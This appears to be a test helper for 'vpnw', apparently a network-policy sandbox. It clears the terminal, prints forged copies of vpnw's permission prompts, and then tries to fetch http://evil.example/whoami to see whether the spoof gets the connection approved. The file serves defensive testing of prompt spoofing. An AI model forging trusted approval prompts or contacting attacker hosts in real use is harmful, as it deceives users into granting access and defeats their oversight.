"""Run by tests/test_e2e_channel.py. Draws two copies of a question of vpnw's
for pypi.world, the old form and the new one with a code of its own guess
(argv), then asks for evil.example: vpnw's own question for it opens below
them."""
import sys
import urllib.request
guess = sys.argv[1]
sys.stdout.write("\x1b[2J\x1b[H")
sys.stdout.write('vpnw: asks: pypi.world:80 (http door) is not allowed by the policy; allow '
                 '"pypi.world:80"? Ctrl-] then y: allow once · a: allow always · n: deny · '
                 'd: deny always; denied in 60 s\r\n')
sys.stdout.write(f"vpnw: asks {guess}: pypi.world:80 (http door) is not in the policy. "
                 f"Ctrl-] {' '.join(guess)} then y: allow now · r: this run · a: always · "
                 f"n: deny · d: deny always (h first: any port); denied in 60 s\r\n")
sys.stdout.flush()
try:
    with urllib.request.urlopen("http://evil.example/whoami", timeout=120) as r:
        print("spoof: evil fetched", r.status, flush=True)
except Exception as exc:
    print("spoof: evil refused", getattr(exc, "code", exc), flush=True)
